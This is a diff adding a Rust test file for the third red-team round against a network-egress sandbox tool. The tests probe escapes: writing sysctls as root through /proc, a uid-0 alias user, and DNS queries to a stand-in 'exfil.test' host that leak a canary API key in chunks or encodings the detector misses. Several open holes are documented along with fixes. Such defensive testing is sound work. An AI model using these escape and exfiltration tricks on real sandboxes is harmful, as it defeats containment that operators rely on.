@@ -1,0 +1,373 @@
+//! Round 3 of the red team on `egress-fence exec` (issue 12): the fixes of round 2 (CMD's
+//! user, a /proc of its own, the canary's encodings) attacked again, and what round 2 did not
+//! try (sysctls, mounts, sudo's user, the canary over TCP, two runs at once, signals). A
+//! test marked `#[ignore = "HOLE: ..."]` shows a way out or a wrong behaviour still open.
+
+use std::process::{Command, Output, Stdio};
+use std::time::Duration;
+
+use egress_fence::exec::canary;
+
+use crate::common::*;
+
+const PORT: u16 = 8080;
+const ALLOWED: &str = "registry.example.test";
+
+fn policy_text() -> String {
+    format!(
+        "version: 1\nallow:\n  - domain: \"{ALLOWED}\"\n    ports: [{PORT}]\n\
+         dns:\n  mode: guard\n  listen: [\"{GUARD_ADDR}\"]\n  upstream: [{DNS_V4}]\n\
+         log:\n  group: 100\n  rate: 1000/second\n  burst: 1000\n"
+    )
+}
+
+fn setup(w: &World) -> String {
+    w.dns_set(ALLOWED, &[HOST_V4], 60);
+    w.write_file("exec.yaml", &policy_text())
+        .to_str()
+        .expect("utf-8 path")
+        .to_string()
+}
+
+/// exec with `extra` as given (no `--user` added), SUDO_USER as `sudo_user`.
+fn exec_command(
+    w: &World,
+    policy: &str,
+    extra: &[&str],
+    sudo_user: Option<&str>,
+    script: &str,
+) -> Command {
+    let mut cmd = Command::new("timeout");
+    cmd.args(["-k", "5", "40", EGRESS_FENCE_BIN, "exec"])
+        .args(["--netns", w.sandbox_name(), "--policy", policy])
+        .args(extra)
+        .args(["--", "sh", "-c", script])
+        .env("EGRESS_FENCE_STATE_DIR", w.state_dir())
+        .stdin(Stdio::null());
+    match sudo_user {
+        Some(user) => cmd.env("SUDO_USER", user),
+        None => cmd.env_remove("SUDO_USER"),
+    };
+    cmd
+}
+
+fn exec(w: &World, policy: &str, extra: &[&str], script: &str) -> Output {
+    exec_command(w, policy, extra, None, script)
+        .output()
+        .expect("run egress-fence exec")
+}
+
+fn show(out: &Output) -> String {
+    format!(
+        "exit {:?}\n--- stdout ---\n{}\n--- stderr ---\n{}",
+        out.status.code(),
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+fn stdout(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// `--user root`: the /proc mounted for CMD's pid namespace is read-write, and sysctls check
+/// only the file's mode against the euid (no capability): CMD as root writes the sysctls of
+/// the fence's own network namespace (shown on `ping_group_range`, which lets every user open
+/// ICMP sockets), and may write the host's global ones (`kernel/core_pattern`: a pipe to a
+/// program the kernel runs as full root, outside the fence, at the next crash; only
+/// access(2) is asked here, nothing of the host is written) and /proc/sysrq-trigger.
+/// Fix: bind /proc/sys (and /proc/sysrq-trigger) read-only over themselves after mounting
+/// /proc (`MS_BIND` then `MS_REMOUNT|MS_BIND|MS_RDONLY`), as container runtimes do.
+#[test]
+#[ignore = "HOLE: CMD as --user root writes sysctls (its netns' and, by mode, the host's kernel/core_pattern): /proc/sys is read-write"]
+fn root_cannot_write_sysctls_through_its_proc() {
+    let w = World::new();
+    let policy = setup(&w);
+    let script = r#"
+echo '0 2147483647' > /proc/sys/net/ipv4/ping_group_range 2>/dev/null && echo net-sysctl-written
+python3 -c "import os; print('kernel-sysctl-writable' if os.access('/proc/sys/kernel/core_pattern', os.W_OK) else '')"
+python3 -c "import os; print('sysrq-writable' if os.access('/proc/sysrq-trigger', os.W_OK) else '')"
+exit 0"#;
+    let out = exec(&w, &policy, &["--user", "root"], script);
+    let text = stdout(&out);
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+    for leak in [
+        "net-sysctl-written",
+        "kernel-sysctl-writable",
+        "sysrq-writable",
+    ] {
+        assert!(!text.contains(leak), "{leak}\n{}", show(&out));
+    }
+}
+
+/// What held: as root without capabilities, CMD can neither unmount the guard's resolv.conf,
+/// nor mount a /proc or a bind of its own, nor enter another mount namespace; /etc/resolv.conf
+/// names the guard; its /proc shows only the inside's pid namespace (exec is not in it).
+#[test]
+fn root_cannot_remount_or_unmount_what_exec_mounted() {
+    let w = World::new();
+    let policy = setup(&w);
+    let script = r#"
+umount /etc/resolv.conf 2>/dev/null && echo unmounted-resolv
+umount -l /proc 2>/dev/null && echo unmounted-proc
+mount -t proc proc /mnt 2>/dev/null && echo mounted-proc
+mount --bind /tmp /mnt 2>/dev/null && echo bind-mounted
+mount -o remount,rw /proc 2>/dev/null && echo remounted-proc
+nsenter --mount=/proc/1/ns/mnt true 2>/dev/null && echo entered-mntns
+grep -q "^nameserver $GUARD" /etc/resolv.conf && echo guard-named
+for p in $(ls /proc | grep '^[0-9]'); do echo "proc $p $(cat /proc/$p/comm 2>/dev/null)"; done
+test -e /proc/$PPID/stat && echo parent-visible
+ls /proc | grep -c '^[0-9]' | sed 's/^/procs=/'
+exit 0"#;
+    let script = script.replace("$GUARD", &GUARD_ADDR.ip().to_string());
+    let out = exec(&w, &policy, &["--user", "root"], &script);
+    let text = stdout(&out);
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+    for leak in [
+        "unmounted-resolv",
+        "unmounted-proc",
+        "mounted-proc",
+        "bind-mounted",
+        "remounted-proc",
+        "entered-mntns",
+    ] {
+        assert!(!text.contains(leak), "{leak}\n{}", show(&out));
+    }
+    assert!(text.contains("guard-named"), "{}", show(&out));
+    // exec (and its guard thread) is outside the pid namespace: only the inside, pid 1.
+    let fence_processes: Vec<&str> = text
+        .lines()
+        .filter(|l| l.starts_with("proc ") && l.contains("egress-fence"))
+        .collect();
+    assert_eq!(fence_processes, ["proc 1 egress-fence"], "{}", show(&out));
+}
+
+/// A user of uid 0 under another name (`toor`, as BSDs ship), removed when dropped.
+struct Uid0Alias(String);
+
+impl Uid0Alias {
+    fn create() -> Uid0Alias {
+        let name = format!("eftoor{}", std::process::id());
+        let status = Command::new("useradd")
+            .args([
+                "-o", "-u", "0", "-g", "0", "-M", "-N", "-s", "/bin/sh", &name,
+            ])
+            .status()
+            .expect("run useradd");
+        assert!(status.success(), "useradd {name}");
+        Uid0Alias(name)
+    }
+}
+
+impl Drop for Uid0Alias {
+    fn drop(&mut self) {
+        // -f: a uid-0 user is "in use" by every root process.
+        let _ = Command::new("userdel").args(["-f", &self.0]).status();
+    }
+}
+
+/// Without `--user`, CMD runs as $SUDO_USER unless that is empty or the word `root`: a
+/// SUDO_USER naming another user of uid 0 (`toor`) runs CMD as root, unasked.
+/// Fix (src/cli/exec.rs `cmd_user`, or better `child::become_user`): refuse uid 0 unless
+/// `--user` was given: look the name up and compare the uid, not the name.
+#[test]
+#[ignore = "HOLE: SUDO_USER naming a uid-0 alias (toor) runs CMD as root without --user root"]
+fn a_sudo_user_of_uid_0_is_not_root_by_default() {
+    let w = World::new();
+    let policy = setup(&w);
+    let toor = Uid0Alias::create();
+    let out = exec_command(&w, &policy, &[], Some(&toor.0), "id -u")
+        .output()
+        .expect("run egress-fence exec");
+    drop(toor);
+    assert!(
+        !stdout(&out).trim().eq("0"),
+        "CMD ran as uid 0 by default\n{}",
+        show(&out)
+    );
+    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
+}
+
+/// What held: `--user 0` is no user name and is refused (CMD does not run; it does not count
+/// as `--user root`); a SUDO_USER naming no user is refused too; `--user nobody` is nobody.
+#[test]
+fn a_uid_number_or_an_unknown_sudo_user_is_refused() {
+    let w = World::new();
+    let policy = setup(&w);
+    let by_number = exec(&w, &policy, &["--user", "0"], "echo ran; id -u");
+    assert!(!stdout(&by_number).contains("ran"), "{}", show(&by_number));
+    assert_ne!(by_number.status.code(), Some(0), "{}", show(&by_number));
+    let unknown = exec_command(&w, &policy, &[], Some("ef-no-such-user"), "echo ran")
+        .output()
+        .expect("run egress-fence exec");
+    assert!(!stdout(&unknown).contains("ran"), "{}", show(&unknown));
+    assert_ne!(unknown.status.code(), Some(0), "{}", show(&unknown));
+    let nobody = exec(&w, &policy, &["--user", "nobody"], "id -u");
+    assert_eq!(nobody.status.code(), Some(0), "{}", show(&nobody));
+    assert_ne!(stdout(&nobody).trim(), "0", "{}", show(&nobody));
+}
+
+fn token() -> String {
+    canary::mint().expect("mint a token")
+}
+
+/// Encodings the canary does not know: each leaks the whole token and goes unseen. A
+/// tripwire cannot know every encoding (the module says so), but these are one line each.
+/// Fix: add base32hex and hex/base64 of the reversed token to `needles` (the fragments of
+/// the reversed random part too), or say in the README which encodings are looked for.
+#[test]
+#[ignore = "HOLE: the canary misses the token in base32hex and in hex of the reversed token"]
+fn the_canary_knows_base32hex_and_hex_of_the_reversed_token() {
+    let token = token();
+    let needles = canary::needles(&token);
+    let rev: String = token.chars().rev().collect();
+    let hex_rev: String = rev.bytes().map(|b| format!("{b:02x}")).collect();
+    let b32 = base32hex(token.as_bytes());
+    assert!(
+        canary::carries(&hex_rev, &needles),
+        "hex of reversed: {hex_rev}"
+    );
+    assert!(canary::carries(&b32, &needles), "base32hex: {b32}");
+}
+
+/// Split into pieces shorter than the fragment (11 of the 32 random characters a question),
+/// the token crosses the fence unseen: each question carries less than 12 of its characters.
+/// Fix: none per question (48 bits is what keeps innocent names from tripping); the report
+/// could join the refused questions of a run (in order) and search the joined text.
+#[test]
+#[ignore = "HOLE: the token split into 11-character pieces (one a question) is not seen"]
+fn the_canary_sees_the_token_in_pieces_shorter_than_a_fragment() {
+    let token = token();
+    let needles = canary::needles(&token);
+    let chars: Vec<char> = token.chars().collect();
+    let seen = chars
+        .chunks(11)
+        .map(|c| format!("{}.exfil.test", c.iter().collect::<String>()))
+        .any(|name| canary::carries(&name, &needles));
+    assert!(seen, "no 11-character piece of {token} trips");
+}
+
+/// What held: the prefix `ck_live_` alone (plain, hex, base32, base64, shifted) trips
+/// nothing, nor an innocent CDN-like name; upper-case hex trips.
+#[test]
+fn the_canary_prefix_alone_is_innocent_and_upper_case_hex_trips() {
+    let token = token();
+    let needles = canary::needles(&token);
+    let prefix = b"ck_live_";
+    let hex: String = prefix.iter().map(|b| format!("{b:02x}")).collect();
+    for name in [
+        "ck_live_.example.test".to_string(),
+        format!("{hex}.example.test"),
+        format!("{}.example.test", base32hex(prefix)),
+        "d1a2b3c4e5f6a7.cloudfront.net".to_string(),
+    ] {
+        assert!(!canary::carries(&name, &needles), "{name} trips");
+    }
+    let upper: String = token.bytes().map(|b| format!("{b:02X}")).collect();
+    assert!(canary::carries(&upper, &needles), "upper-case hex");
+}
+
+fn base32hex(bytes: &[u8]) -> String {
+    const ALPHABET: &[u8; 32] = b"0123456789ABCDEFGHIJKLMNOPQRSTUV";
+    let mut out = String::new();
+    let (mut buffer, mut bits) = (0u32, 0u32);
+    for &b in bytes {
+        buffer = (buffer << 8) | b as u32;
+        bits += 8;
+        while bits >= 5 {
+            bits -= 5;
+            out.push(ALPHABET[((buffer >> bits) & 31) as usize] as char);
+        }
+    }
+    if bits > 0 {
+        out.push(ALPHABET[((buffer << (5 - bits)) & 31) as usize] as char);
+    }
+    out
+}
+
+/// The token, and the canary's host, asked over TCP (DNS over TCP to the guard): seen.
+#[test]
+fn the_canary_trips_on_questions_over_tcp() {
+    let w = World::new();
+    let policy = setup(&w);
+    let token = exec(
+        &w,
+        &policy,
+        &["--canary", "--user", "nobody"],
+        "dig +tcp +time=1 +tries=1 \"$CANARY_API_KEY.exfil.test\" >/dev/null; exit 0",
+    );
+    assert_eq!(token.status.code(), Some(99), "{}", show(&token));
+    let host = exec(
+        &w,
+        &policy,
+        &["--canary", "--user", "nobody"],
+        "h=${CANARY_WEBHOOK_URL#https://}; h=${h%%/*}; \
+         dig +tcp +time=1 +tries=1 \"$h\" >/dev/null; exit 0",
+    );
+    assert_eq!(host.status.code(), Some(99), "{}", show(&host));
+}
+
+/// CMD killed by SIGKILL: exec exits 137, as a shell says.
+#[test]
+fn cmd_killed_by_sigkill_exits_137() {
+    let w = World::new();
+    let policy = setup(&w);
+    let out = exec(&w, &policy, &["--user", "nobody"], "kill -9 $$");
+    assert_eq!(out.status.code(), Some(137), "{}", show(&out));
+}
+
+/// CMD ignoring SIGTERM: exec passes it on and keeps waiting; CMD's own exit code comes
+/// back when it ends by itself. SIGSTOP/SIGCONT of exec do not end the run.
+#[test]
+fn sigterm_ignored_by_cmd_and_sigstop_of_exec_keep_the_run() {
+    let w = World::new();
+    let policy = setup(&w);
+    let child = exec_command(
+        &w,
+        &policy,
+        &["--user", "nobody"],
+        None,
+        "trap '' TERM; sleep 4; exit 7",
+    )
+    .stdout(Stdio::piped())
+    .spawn()
+    .expect("start exec");
+    std::thread::sleep(Duration::from_millis(2500));
+    // timeout's child is exec: signal exec itself.
+    let exec_pid = Command::new("pgrep")
+        .args(["-P", &child.id().to_string()])
+        .output()
+        .expect("pgrep");
+    let exec_pid = String::from_utf8_lossy(&exec_pid.stdout).trim().to_string();
+    for sig in ["-STOP", "-CONT", "-TERM"] {
+        let _ = Command::new("kill").args([sig, &exec_pid]).status();
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    let out = child.wait_with_output().expect("wait for exec");
+    assert_eq!(out.status.code(), Some(7), "{}", show(&out));
+}
+
+/// Two runs at once: both run, neither removes the other's name or state, nothing is left.
+#[test]
+fn two_runs_at_once_do_not_disturb_each_other() {
+    let w = World::new();
+    let policy = setup(&w);
+    let script = "sleep 3; grep -q '^nameserver' /etc/resolv.conf && echo ok";
+    let first = exec_command(&w, &policy, &["--user", "nobody"], None, script)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("start the first run");
+    std::thread::sleep(Duration::from_millis(300));
+    let second = exec(&w, &policy, &["--user", "nobody"], script);
+    let first = first.wait_with_output().expect("wait for the first run");
+    for out in [&first, &second] {
+        assert_eq!(out.status.code(), Some(0), "{}", show(out));
+        assert!(stdout(out).contains("ok"), "{}", show(out));
+        assert!(
+            !String::from_utf8_lossy(&out.stderr).contains("removed"),
+            "{}",
+            show(out)
+        );
+    }
+}
